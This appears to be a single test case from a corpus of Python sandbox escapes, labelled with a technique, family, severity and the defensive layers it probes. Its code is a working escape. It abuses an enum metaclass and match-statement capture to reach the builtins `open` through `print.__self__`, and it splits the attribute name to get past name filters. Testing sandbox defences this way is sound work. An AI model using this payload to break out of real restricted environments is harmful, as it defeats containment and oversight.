# technique: a builtin type's name bound, by a library, to a class whose pattern reads any attribute
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    import enum

    class Meta(enum.EnumType):
        def __instancecheck__(cls, thing):
            return True

    class Own(enum.Enum, metaclass=Meta):
        __match_args__ = ("__se" + "lf__",)
    Own._convert_("int", "__main__", lambda name: False)
    match print:
        case int(object() as found):
            return found.open

read_host(trick)
